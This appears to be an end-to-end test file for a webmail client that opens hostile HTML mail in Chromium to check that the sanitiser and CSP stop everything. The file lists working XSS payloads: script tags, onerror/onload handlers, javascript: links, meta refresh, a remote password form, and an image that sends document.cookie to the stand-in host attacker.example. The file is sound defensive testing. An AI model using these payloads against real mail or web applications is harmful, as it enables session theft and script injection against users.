import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { ConsoleMessage } from 'playwright-core';
import { CORPUS } from '../mailserver/mailstack.js';
import { LoginPage } from '../pages/LoginPage.js';
import { MailPage } from '../pages/MailPage.js';
import { until } from '../pages/wait.js';
import { appendAll } from '../support/imap-probe.js';
import { htmlMessage } from '../support/messages.js';
import { openWorld, type SpecWorld } from './harness.js';

// Hostile HTML mail (DESIGN.md §5) opened in a real Chromium. Every payload
// tries to leave a mark: a dialog (alert), the top page's title, a
// postMessage to the top window, or a request that leaves the webmail. None
// may appear, and the page must still be the webmail afterwards. Console
// noise from the CSP is expected (DOMPurify parses the handlers; nothing runs)
// and is not a failure on its own.

const stack = inject('mailstack');
let w: SpecWorld;
let mail: MailPage;
const consoleLines: string[] = [];
let currentCase = '';

const ATTACKER = 'https://attacker.example';
/** Marks a payload would leave if it ran: the corpus uses "xss:", the inline payloads "PWNED". */
const MARK = /xss:|PWNED/;

// Payloads written here in addition to e2e/corpus/hostile: each one names what it tries.
const INLINE: Array<{ name: string; html: string }> = [
  {
    name: 'script element',
    html: `<p>inline script</p><script>parent.document.title='PWNED script';top.postMessage('PWNED script','*');fetch('${ATTACKER}/script')</script>`,
  },
  {
    name: 'img onerror',
    html: `<p>img onerror</p><img src=x onerror="parent.document.title='PWNED onerror';top.postMessage('PWNED onerror','*')">`,
  },
  { name: 'svg onload', html: `<p>svg onload</p><svg onload="top.postMessage('PWNED svg','*')"><circle r="5"/></svg>` },
  {
    name: 'javascript: link',
    html: `<p><a href="javascript:top.postMessage('PWNED jslink','*');parent.document.title='PWNED jslink'">Click to verify your account</a></p>`,
  },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh"><p>meta refresh</p>` },
  {
    name: 'remote form',
    html: `<form action="${ATTACKER}/form" method="post"><input name="password" value="secret"><button type="submit">Send it</button></form><p>remote form</p>`,
  },
  {
    name: 'CSS @import and url()',
    html: `<style>@import url("${ATTACKER}/import.css"); body { background: url(${ATTACKER}/bg.png) }</style><div style="background-image:url('${ATTACKER}/inline.png')">css payload</div>`,
  },
  {
    name: 'cookie exfiltration via image',
    html: `<p>cookie</p><img src=x onerror="new Image().src='${ATTACKER}/c?'+document.cookie">`,
  },
  { name: 'iframe with javascript: src', html: `<p>nested frame</p><iframe src="javascript:top.postMessage('PWNED iframe','*')"></iframe>` },
];

const HOSTILE_FILES = CORPUS.filter((c) => c.kind === 'hostile');
/** Test names are known before any mail exists: corpus file names, then the inline payloads. */
const CASE_NAMES = [...HOSTILE_FILES.map((c) => c.file), ...INLINE.map((p) => `inline: ${p.name}`)];

interface Case {
  name: string;
  uid: number;
  subject: string;
}
const cases: Case[] = [];

beforeAll(async () => {
  w = await openWorld(stack);
  expect(HOSTILE_FILES.length).toBeGreaterThan(10);
  const raws = [
    ...HOSTILE_FILES.map((c) => ({ name: c.file, raw: c.raw })),
    ...INLINE.map((p) => ({ name: `inline: ${p.name}`, raw: htmlMessage(p.html, { subject: `Inline hostile: ${p.name}` }) })),
  ];
  expect(raws.map((r) => r.name)).toEqual(CASE_NAMES);
  const uids = await appendAll(w.probe, 'INBOX', raws.map((r) => r.raw));
  // The subject as the server decodes it, to know when the reader shows this message and not the last one.
  const lock = await w.probe.getMailboxLock('INBOX');
  try {
    for (const [i, r] of raws.entries()) {
      const msg = await w.probe.fetchOne(String(uids[i]), { envelope: true }, { uid: true });
      cases.push({ name: r.name, uid: uids[i]!, subject: (msg && msg.envelope?.subject) || '' });
    }
  } finally {
    lock.release();
  }

  // A listener in the top window only, installed before the app loads: any
  // postMessage that reaches it came from something that ran.
  await w.ui.context.addInitScript(() => {
    if (window !== window.top) return;
    const seen: string[] = [];
    (window as unknown as { __messages: string[] }).__messages = seen;
    window.addEventListener('message', (e) => seen.push(typeof e.data === 'string' ? e.data : JSON.stringify(e.data)));
  });
  w.ui.page.on('console', (m: ConsoleMessage) => consoleLines.push(`[${currentCase}] ${m.type()}: ${m.text()} @ ${m.location().url}`));
  const login = new LoginPage(w.ui.page);
  await login.open();
  await login.signIn(w.user.address, w.user.password);
  mail = new MailPage(w.ui.page);
  await mail.list.waitForRows(1);
});

afterAll(async () => {
  await w?.close();
});

/** Console lines where a CSP refused to load something from another origin. */
function remoteLoadRefusals(): string[] {
  const app = new URL(w.app.url).origin;
  const loadRefusal = /Refused to (load|connect|frame)|Loading the [\w ]+ '|Connecting to '|Framing '/;
  return consoleLines.filter((l) => loadRefusal.test(l) && (l.match(/https?:\/\/[^\s'"]+/g) ?? []).some((u) => new URL(u).origin !== app));
}

/** Every attachment link of corpus file 14, fetched as download and as ?inline=1, with the session's cookies. */
async function attachmentResponses() {
  const c = cases.find((x) => x.name.includes('14-active-attachments'));
  if (!c) throw new Error('corpus file 14-active-attachments.eml is missing');
  await mail.openByUid('INBOX', c.uid);
  await mail.reader.waitForMessage(c.subject);
  const hrefs = await mail.reader.attachments.getByRole('link').evaluateAll((els) => els.map((e) => (e as HTMLAnchorElement).href));
  expect(hrefs.length).toBeGreaterThanOrEqual(3);
  const out = [];
  for (const href of hrefs) {
    for (const url of [href, `${href}&inline=1`]) out.push({ url, res: await w.ui.context.request.get(url) });
  }
  return out;
}

/** What a payload could have left behind, gathered after each message. */
async function traces() {
  const page = w.ui.page;
  return {
    title: await page.title(),
    messages: await page.evaluate(() => (window as unknown as { __messages?: string[] }).__messages ?? ['listener missing']),
    origin: await page.evaluate(() => window.location.origin),
    frames: page.frames().map((f) => f.url()),
    remote: w.ui.recorder.remote(),
    dialogs: [...w.ui.dialogs],
    popups: w.ui.popups.length,
  };
}

async function expectNothingRan(c: Case) {
  const t = await traces();
  expect(t.dialogs, 'dialogs').toEqual([]);
  expect(t.title, 'top page title').not.toMatch(MARK);
  expect(t.messages.filter((m) => MARK.test(m)), 'postMessage to top').toEqual([]);
  expect(t.remote, 'requests that left the webmail').toEqual([]);
  expect(t.popups, 'windows opened').toBe(0);
  // Still the app, on this message: no navigation of the top page or of the message frame.
  expect(t.origin).toBe(new URL(w.app.url).origin);
  expect(await mail.routeUid()).toBe(c.uid);
  expect(t.frames.slice(1).every((u) => u === 'about:srcdoc'), `frames: ${t.frames.join(', ')}`).toBe(true);
  await mail.signOutButton.waitFor();
}

describe('hostile mail opened in the reader runs nothing and loads nothing', () => {
  it('has its detectors armed: a control alert, postMessage and CSP refusal are all seen', async () => {
    await w.ui.page.evaluate(() => {
      window.postMessage('control', '*');
      alert('control');
    });
    await until(() => w.ui.page.evaluate(() => (window as unknown as { __messages?: string[] }).__messages ?? []), (m) => m.includes('control'), 'the control postMessage');
    expect(w.ui.dialogs).toEqual(['alert: control']);
    w.ui.dialogs.length = 0;
    // And a CSP load refusal reaches the console listener in a form the last test recognises.
    currentCase = 'control';
    await w.ui.page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'"><img src="https://control.invalid/refused.png">';
      frame.hidden = true;
      document.body.append(frame);
      setTimeout(() => frame.remove(), 1_000);
    });
    await until(() => remoteLoadRefusals().filter((l) => l.startsWith('[control]')), (l) => l.length > 0, 'a refusal line for the control image', 5_000);
    // Chromium still attempts the control image (the route aborts it), so
    // start the record afresh: only what the mail does counts from here.
    await w.ui.page.waitForTimeout(1_200);
    consoleLines.length = 0;
    w.ui.recorder.requests.length = 0;
    w.ui.recorder.aborted.length = 0;
  });

  it('has every corpus file and inline payload in the list', async () => {
    expect(cases.map((c) => c.name)).toEqual(CASE_NAMES);
    expect(await mail.list.setSize()).toBe(cases.length);
  });

  // One test per message, so a failure names the payload that got through.
  it.each(CASE_NAMES)(
    '%s',
    async (name) => {
      const c = cases.find((x) => x.name === name)!;
      currentCase = name;
      await mail.openByUid('INBOX', c.uid);
      await mail.reader.waitForMessage(c.subject);
      const frame = mail.reader.frame;
      if ((await mail.reader.frameElement.count()) > 0) {
        await frame.locator('body').waitFor({ state: 'attached' });
        await frame.locator('body').hover({ timeout: 2_000 }).catch(() => undefined);
      }
      // Click every link that does not go to an http(s) or mailto: address —
      // the javascript:, data: and vbscript: ones — in the frame and in a text body.
      // (Fragment links stay inside the frame: read-mail.e2e checks them.)
      const links = [frame.locator('a'), mail.reader.region.locator('.reader-body a')];
      for (const group of links) {
        for (const link of await group.all()) {
          const href = (await link.getAttribute('href')) ?? '';
          if (/^(https?:|mailto:|about:srcdoc#)/i.test(href)) continue;
          await link.dispatchEvent('click');
        }
      }
      // Submit buttons, in case a form survived (it must not).
      for (const button of await frame.locator('button, input[type=submit], input[type=image]').all()) {
        await button.dispatchEvent('click');
      }
      // Time for a meta refresh, an image error handler or a timer to fire.
      await w.ui.page.waitForTimeout(700);
      await expectNothingRan(c);
    },
  );

  it('serves active attachments so that opening them in a tab runs nothing', async () => {
    for (const { url, res } of await attachmentResponses()) {
      if (res.status() === 200) {
        expect(res.headers()['x-content-type-options'], url).toBe('nosniff');
        expect(res.headers()['content-security-policy'], url).toContain('sandbox');
      }
      // And as a person would: open it in a tab of its own.
      const tab = await w.ui.context.newPage();
      await tab.goto(url).catch(() => undefined); // "Download is starting" for attachments
      await tab.waitForTimeout(300);
      expect(await tab.title().catch(() => ''), url).not.toMatch(MARK);
      await tab.close();
    }
    expect(w.ui.dialogs).toEqual([]);
    expect(w.ui.recorder.remote()).toEqual([]);
  });

  // Disposition, nosniff and the sandbox CSP already stop a part from running
  // (test above); the type is a further wall, checked on its own.
  it('never labels a downloaded part as HTML or SVG', async () => {
    for (const { url, res } of await attachmentResponses()) {
      if (res.status() !== 200) continue;
      expect(res.headers()['content-type'], url).not.toMatch(/text\/html|image\/svg/);
    }
  });

  it('renders markup in Subject and From as text, in the list and in the reader', async () => {
    const c = cases.find((x) => x.name.includes('16-header-markup'));
    if (!c) throw new Error('corpus file 16-header-markup.eml is missing');
    const row = mail.list.rowByUid(c.uid);
    await row.scrollIntoViewIfNeeded();
    expect(await row.locator('img, script').count()).toBe(0);
    expect(await row.textContent()).toContain('<img src=x onerror=alert(1)>');
    expect(await mail.reader.region.locator('header img, header script').count()).toBe(0);
  });

  it('kept the remote loads out by sanitising, not only by the frame CSP', () => {
    // A CSP refusal to load a remote URL means the sanitiser let that URL
    // through and only the second wall stopped it. Other CSP lines are
    // expected noise: inline handlers and <base> met while DOMPurify parses
    // (logged from the app bundle), and "Blocked script execution in
    // about:srcdoc" when this test dispatches clicks into the sandboxed frame.
    const refusedRemote = remoteLoadRefusals();
    expect(refusedRemote).toEqual([]);
  });
});
